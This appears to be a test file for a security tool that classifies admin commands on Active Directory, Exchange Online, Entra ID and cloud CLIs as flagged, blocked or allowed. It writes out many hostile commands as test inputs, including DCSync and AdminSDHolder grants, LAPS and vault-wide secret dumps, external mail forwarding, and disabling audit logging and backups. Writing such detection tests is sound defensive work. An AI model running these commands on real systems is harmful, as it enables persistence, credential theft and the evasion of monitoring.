/**
 * The identity and cloud control planes (blind round 22): what an intruder does with a technician's shell to Active
 * Directory, Exchange Online, Entra ID and the clouds, next to the ordinary administration that looks like it.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

const rules = (text: string, shell: Shell) => evaluateLine(text, shell).reasons.map((r) => r.ruleId);

describe('Active Directory', () => {
  it('a privileged group joined with any tool is flagged; an ordinary group is not', () => {
    const dn = 'CN=Domain Admins,CN=Users,DC=corp,DC=local';
    expect(rules(`Set-ADObject -Identity '${dn}' -Add @{member='CN=Kiosk,OU=K,DC=corp,DC=local'}`, 'powershell')).toContain(
      'persist.account.privileged-group',
    );
    expect(rules(`dsmod group "${dn}" -addmbr "CN=x,OU=U,DC=corp,DC=local"`, 'cmd')).toContain('persist.account.privileged-group');
    expect(rules(`dsadd user "CN=T,OU=U,DC=corp,DC=local" -samid t -pwd P@ss1 -memberof "${dn}"`, 'cmd')).toContain(
      'persist.account.privileged-group',
    );
    const ldif = `ldapmodify -H ldaps://dc1 -w x <<'EOF'\ndn: ${dn}\nchangetype: modify\nadd: member\nmember: CN=p,OU=S,DC=corp,DC=local\nEOF`;
    expect(rules(ldif, 'bash')).toContain('persist.account.privileged-group');
    expect(
      decision(`Set-ADObject -Identity 'CN=Helpdesk,OU=Groups,DC=corp,DC=local' -Add @{member='CN=x,OU=U,DC=corp,DC=local'}`, 'powershell'),
    ).toBe('allow');
  });

  it('account settings that open a way back in are flagged; ordinary attribute changes are not', () => {
    expect(rules('Set-ADAccountControl -Identity svc_backup -DoesNotRequirePreAuth $true', 'powershell')).toContain(
      'persist.ad.account-control',
    );
    expect(rules("Set-ADAccountControl -Identity 'APP02$' -TrustedForDelegation $true", 'powershell')).toContain(
      'persist.ad.account-control',
    );
    expect(rules('Set-ADUser -Identity a.k -Replace @{userAccountControl=4260352}', 'powershell')).toContain('persist.ad.account-control');
    expect(rules('Set-ADComputer FILE01 -PrincipalsAllowedToDelegateToAccount (Get-ADComputer KIOSK-07)', 'powershell')).toContain(
      'persist.ad.delegation',
    );
    expect(
      rules("Set-ADObject -Identity 'CN=DC01,OU=Domain Controllers,DC=c,DC=l' -Add @{'msDS-KeyCredentialLink'='B:828:AA'}", 'powershell'),
    ).toContain('persist.ad.attribute');
    expect(rules("Set-ADUser -Identity Administrator -Add @{altSecurityIdentities='X509:<I>DC=x<S>CN=y'}", 'powershell')).toContain(
      'persist.ad.attribute',
    );
    expect(decision('Set-ADAccountControl -Identity j.chen -DoesNotRequirePreAuth $false', 'powershell')).toBe('allow');
    expect(decision('Set-ADUser -Identity a.k -Replace @{userAccountControl=512}', 'powershell')).toBe('allow');
    expect(decision("Set-ADUser -Identity a.k -Replace @{title='Accountant'; department='Finance'}", 'powershell')).toBe('allow');
  });

  it('replication rights and AdminSDHolder grants are flagged; other directory permissions are not', () => {
    expect(
      rules(
        'dsacls "DC=corp,DC=local" /G "CORP\\svc:CA;Replicating Directory Changes" "CORP\\svc:CA;Replicating Directory Changes All"',
        'cmd',
      ),
    ).toContain('persist.ad.acl');
    expect(rules('dsacls "CN=AdminSDHolder,CN=System,DC=corp,DC=local" /G "CORP\\t:GA"', 'cmd')).toContain('persist.ad.acl');
    const setAcl = [
      '$dn = "CN=AdminSDHolder,CN=System,DC=corp,DC=local"',
      '$acl = Get-Acl "AD:$dn"',
      "$acl.AddAccessRule((New-Object System.DirectoryServices.ActiveDirectoryAccessRule $sid,'GenericAll','Allow'))",
      'Set-Acl -Path "AD:$dn" -AclObject $acl',
    ].join('\n');
    expect(rules(setAcl, 'powershell')).toContain('persist.ad.acl');
    expect(decision('dsacls "OU=Kiosks,DC=corp,DC=local" /G "CORP\\Helpdesk:RPWP;pwdLastSet"', 'cmd')).toBe('allow');
    expect(decision('dsacls "DC=corp,DC=local"', 'cmd')).toBe('allow');
  });

  it("every computer's LAPS password read at once is blocked; one computer's is not", () => {
    expect(rules('Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd | Select-Object Name,ms-Mcs-AdmPwd', 'powershell')).toContain(
      'cred.laps-dump',
    );
    expect(rules("ldapsearch -H ldap://10.0.0.10 -b 'DC=c,DC=l' '(ms-MCS-AdmPwd=*)' ms-MCS-AdmPwd", 'bash')).toContain('cred.laps-dump');
    expect(decision('Get-ADComputer PC-0142 -Properties ms-Mcs-AdmPwd | Select-Object ms-Mcs-AdmPwd', 'powershell')).toBe('allow');
    expect(decision("ldapsearch -b 'DC=c,DC=l' '(cn=PC-0142)' ms-MCS-AdmPwd", 'bash')).toBe('allow');
  });

  it('the directory database backed up, jamf admin accounts, trusts and GPO edit rights', () => {
    expect(rules('wbadmin start backup -backuptarget:\\\\10.0.5.77\\b$ -include:C:\\Windows\\NTDS -quiet', 'cmd')).toContain('cred.ntds');
    expect(decision('wbadmin start backup -backuptarget:E: -include:C:\\Data -quiet', 'cmd')).toBe('allow');
    expect(rules("sudo jamf createAccount -username jamfsupport -password 'x' -admin -hiddenUser", 'zsh')).toContain(
      'persist.account.create',
    );
    expect(rules('netdom trust corp.local /domain:PARTNER.NET /add /twoway /realm /passwordt:x', 'cmd')).toContain('persist.ad.trust');
    expect(
      rules(
        "Set-GPPermission -Name 'Default Domain Controllers Policy' -TargetName kiosk01 -TargetType User -PermissionLevel GpoEditDeleteModifySecurity",
        'powershell',
      ),
    ).toContain('persist.ad.gpo-permission');
    expect(
      decision("Set-GPPermission -Name 'Printers' -TargetName 'Helpdesk' -TargetType Group -PermissionLevel GpoRead", 'powershell'),
    ).toBe('allow');
  });

  it('net user /active:yes is flagged for built-in accounts only', () => {
    expect(rules('net user guest /active:yes', 'cmd')).toContain('persist.account.enable');
    expect(rules('net user Administrator /active:yes', 'cmd')).toContain('persist.account.enable');
    expect(decision('net user j.chen /domain /active:yes', 'cmd')).toBe('allow');
  });
});

describe('Exchange Online and Entra ID', () => {
  it('mail forwarded outside the organisation is flagged; forwarding inside it is not', () => {
    expect(rules('Set-Mailbox -Identity cfo@northwind.com -ForwardingSmtpAddress smtp:ap.billing@gmail.com', 'powershell')).toContain(
      'persist.mail.forwarding',
    );
    expect(
      rules('New-InboxRule -Mailbox ap@northwind.com -Name . -SubjectContainsWords invoice -ForwardTo ap.nw@outlook.com', 'powershell'),
    ).toContain('persist.mail.forwarding');
    expect(rules("New-TransportRule -Name 'Copy' -FromScope InOrganization -BlindCopyTo 'records@gmail.com'", 'powershell')).toContain(
      'persist.mail.forwarding',
    );
    expect(rules("Get-Mailbox | Set-Mailbox -ForwardingSmtpAddress 'smtp:archive@protonmail.com'", 'powershell')).toContain(
      'persist.mail.forwarding',
    );
    expect(decision('Set-Mailbox -Identity cfo@northwind.com -ForwardingSmtpAddress smtp:controller@northwind.com', 'powershell')).toBe(
      'allow',
    );
    expect(decision('Set-Mailbox -Identity leaver@northwind.com -ForwardingAddress manager@northwind.com', 'powershell')).toBe('allow');
    expect(decision('Set-Mailbox -Identity cfo@northwind.com -ForwardingSmtpAddress $null', 'powershell')).toBe('allow');
  });

  it('access to every mailbox, app secrets, tenant-wide consent and privileged roles are flagged', () => {
    expect(
      rules('Get-Mailbox -ResultSize Unlimited | Add-MailboxPermission -User t@x.com -AccessRights FullAccess', 'powershell'),
    ).toContain('persist.mail.impersonation');
    expect(decision('Add-MailboxPermission -Identity shared@x.com -User t@x.com -AccessRights FullAccess', 'powershell')).toBe('allow');
    expect(rules('New-ManagementRoleAssignment -Name imp -Role ApplicationImpersonation -User svc@x.com', 'powershell')).toContain(
      'persist.mail.impersonation',
    );
    expect(
      rules('$cred = Add-MgApplicationPassword -ApplicationId $app.Id -PasswordCredential @{ displayName = "r" }', 'powershell'),
    ).toContain('persist.identity.grant');
    expect(
      rules(
        "New-MgOauth2PermissionGrant -ClientId $sp.Id -ConsentType AllPrincipals -ResourceId $g.Id -Scope 'Mail.ReadWrite'",
        'powershell',
      ),
    ).toContain('persist.identity.grant');
    expect(
      decision(
        "New-MgOauth2PermissionGrant -ClientId $sp.Id -ConsentType Principal -PrincipalId $u -ResourceId $g.Id -Scope 'User.Read'",
        'powershell',
      ),
    ).toBe('allow');
    expect(rules("New-AzRoleAssignment -ObjectId $id -RoleDefinitionName 'User Access Administrator' -Scope '/'", 'powershell')).toContain(
      'persist.cloud',
    );
    expect(decision("New-AzRoleAssignment -ObjectId $id -RoleDefinitionName 'Reader' -ResourceGroupName rg1", 'powershell')).toBe('allow');
    expect(rules('az role assignment create --assignee x@corp.com --role Owner --scope /subscriptions/1', 'bash')).toContain(
      'persist.cloud',
    );
    expect(
      decision('az role assignment create --assignee l.b@corp.com --role "Virtual Machine Contributor" --resource-group rg1', 'bash'),
    ).toBe('allow');
    expect(decision("gcloud projects add-iam-policy-binding p1 --member='group:devs@corp.com' --role='roles/compute.viewer'", 'bash')).toBe(
      'allow',
    );
    expect(rules("gcloud projects add-iam-policy-binding p1 --member='user:x@gmail.com' --role='roles/owner'", 'bash')).toContain(
      'persist.cloud',
    );
  });

  it('audit logging, security defaults, MFA and mail protection switched off are flagged; switched on they are not', () => {
    expect(rules('Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled $false', 'powershell')).toContain('evasion.identity.protection');
    expect(decision('Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled $true', 'powershell')).toBe('allow');
    expect(rules('Set-OrganizationConfig -AuditDisabled $true', 'powershell')).toContain('evasion.identity.protection');
    expect(decision('Set-OrganizationConfig -AuditDisabled $false', 'powershell')).toBe('allow');
    expect(rules('Update-MgPolicyIdentitySecurityDefaultEnforcementPolicy -IsEnabled:$false', 'powershell')).toContain(
      'evasion.identity.protection',
    );
    expect(rules('Set-MsolUser -UserPrincipalName d@x.com -StrongAuthenticationRequirements @()', 'powershell')).toContain(
      'evasion.identity.protection',
    );
    expect(rules("Disable-SafeLinksRule -Identity 'Safe Links' -Confirm:$false", 'powershell')).toContain('evasion.identity.protection');
    expect(rules('Set-ADDefaultDomainPasswordPolicy -Identity corp.local -LockoutThreshold 0', 'powershell')).toContain(
      'evasion.identity.protection',
    );
    expect(
      decision('Set-ADDefaultDomainPasswordPolicy -Identity corp.local -LockoutThreshold 10 -MinPasswordLength 14', 'powershell'),
    ).toBe('allow');
  });
});

describe('cloud CLIs', () => {
  it('logging and security plans switched off are flagged; reading them is not', () => {
    expect(rules('gcloud logging sinks update audit-to-bq --log-filter="severity>=EMERGENCY"', 'bash')).toContain('evasion.cloud-logging');
    expect(decision('gcloud logging sinks update audit-to-bq --destination=bigquery.googleapis.com/projects/p/datasets/d', 'bash')).toBe(
      'allow',
    );
    expect(rules('az security pricing create -n VirtualMachines --tier free', 'bash')).toContain('evasion.cloud-logging');
    expect(rules('kubectl -n falco delete daemonset falco', 'bash')).toContain('evasion.security-service.stop');
    expect(decision('aws cloudtrail describe-trails', 'bash')).toBe('allow');
    expect(decision('az security pricing create -n VirtualMachines --tier standard', 'bash')).toBe('allow');
    expect(decision('kubectl -n web delete pod web-7f9c', 'bash')).toBe('allow');
  });

  it('backups and their soft delete removed are blocked; listing them is not', () => {
    expect(rules('aws backup delete-recovery-point --backup-vault-name v --recovery-point-arn "$rp"', 'bash')).toContain(
      'evasion.backups.delete',
    );
    expect(rules('az backup protection disable -g rg -v rsv -c app01 -i app01 --delete-backup-data true --yes', 'bash')).toContain(
      'evasion.backups.delete',
    );
    expect(
      rules('Get-AzRecoveryServicesVault -Name v | Set-AzRecoveryServicesVaultProperty -SoftDeleteFeatureState Disable', 'powershell'),
    ).toContain('evasion.backups.delete');
    expect(decision('aws backup list-recovery-points-by-backup-vault --backup-vault-name v', 'bash')).toBe('allow');
    expect(decision('az backup protection disable -g rg -v rsv -c app01 -i app01 --yes', 'bash')).toBe('allow');
  });

  it('firewalls opened to the internet are flagged; rules for known addresses are not', () => {
    expect(
      rules(
        "az network nsg rule create -g rg -n rdp --nsg-name n --priority 100 --source-address-prefixes '*' --destination-port-ranges 3389",
        'bash',
      ),
    ).toContain('persist.firewall.cloud');
    expect(rules('aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0', 'bash')).toContain(
      'persist.firewall.cloud',
    );
    expect(rules('gcloud compute firewall-rules create allow-rdp --allow tcp:3389', 'bash')).toContain('persist.firewall.cloud');
    expect(decision('az network nsg rule update -g rg --nsg-name n -n rdp-office --source-address-prefixes 81.2.69.160/28', 'bash')).toBe(
      'allow',
    );
    expect(
      decision('aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 443 --cidr 203.0.113.0/24', 'bash'),
    ).toBe('allow');
  });

  it('every secret of a vault read in one text is blocked; one named secret is not', () => {
    const loop =
      'for s in $(aws secretsmanager list-secrets --query "SecretList[].Name" --output text); do\n  aws secretsmanager get-secret-value --secret-id "$s"\ndone';
    expect(rules(loop, 'bash')).toContain('cred.secret-store-dump');
    expect(rules('aws ssm get-parameters-by-path --path / --recursive --with-decryption', 'bash')).toContain('cred.secret-store-dump');
    expect(
      rules("kubectl -n kube-system exec etcd-cp01 -- sh -c 'ETCDCTL_API=3 etcdctl get /registry/secrets --prefix'", 'bash'),
    ).toContain('cred.secret-store-dump');
    expect(
      rules(
        'Get-AzKeyVaultSecret -VaultName v | ForEach-Object { Get-AzKeyVaultSecret -VaultName v -Name $_.Name -AsPlainText }',
        'powershell',
      ),
    ).toContain('cred.secret-store-dump');
    expect(decision('aws secretsmanager get-secret-value --secret-id prod/app/db --query SecretString', 'bash')).toBe('allow');
    expect(decision('aws secretsmanager list-secrets --query "SecretList[].Name"', 'bash')).toBe('allow');
  });

  it('cloud tunnels are flagged; a VM told to fetch and run a script is blocked', () => {
    expect(rules('gcloud compute start-iap-tunnel vm1 3389 --local-host-port=localhost:13389 --zone z', 'bash')).toContain('tunnel.cloud');
    expect(
      rules('az network bastion tunnel --name b --resource-group rg --target-resource-id /x --resource-port 3389 --port 53389', 'bash'),
    ).toContain('tunnel.cloud');
    const extension =
      'az vm extension set -g rg -n CustomScriptExtension --vm-name vm1 --publisher Microsoft.Compute --settings \'{"fileUris":["https://raw.githubusercontent.com/x/y/main/s.ps1"],"commandToExecute":"powershell -File s.ps1"}\'';
    expect(rules(extension, 'bash')).toContain('dl.vm-extension');
    expect(decision('az vm extension list -g rg --vm-name vm1', 'bash')).toBe('allow');
  });

  it('a script pushed to managed devices through Graph is flagged', () => {
    const push =
      "Invoke-MgGraphRequest -Method POST -Uri 'https://graph.microsoft.com/beta/deviceManagement/deviceManagementScripts' -Body $body";
    expect(rules(push, 'powershell')).toContain('persist.mdm.script');
    expect(
      decision(
        "Invoke-MgGraphRequest -Method GET -Uri 'https://graph.microsoft.com/beta/deviceManagement/deviceManagementScripts'",
        'powershell',
      ),
    ).toBe('allow');
  });
});
